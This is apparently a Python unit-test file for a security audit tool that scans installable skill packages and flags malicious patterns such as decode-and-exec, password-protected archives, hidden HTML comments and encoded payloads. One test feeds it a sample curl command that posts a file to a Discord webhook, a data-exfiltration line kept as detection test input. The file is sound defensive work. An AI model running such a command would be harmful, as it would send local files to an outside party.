import os
import sys
import unittest

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "scripts"))
import audit  # noqa: E402

FIX = os.path.join(os.path.dirname(__file__), "fixtures", "bad-skill")


class AuditTests(unittest.TestCase):
    def test_fixture_is_flagged(self):
        verdict, findings = audit.audit(FIX)
        rules = {f["rule"] for f in findings}
        self.assertEqual(verdict, "Do not install")
        self.assertIn("archive-password", rules)
        self.assertIn("decode-exec", rules)
        self.assertIn("html-comment", rules)
        self.assertTrue(any(r.startswith("encoded:") for r in rules))

    def test_clean_text(self):
        fs = audit.scan_text("x.md", "# Hello\n\nRun `qpdf --check file.pdf` to validate.\n")
        self.assertEqual(fs, [])

    def test_discord_webhook(self):
        fs = audit.scan_text("x.sh", "curl -d @f https://discord.com/api/webhooks/1/abc")
        self.assertTrue(any(f["rule"] == "exfil-endpoint" for f in fs))


if __name__ == "__main__":
    unittest.main()
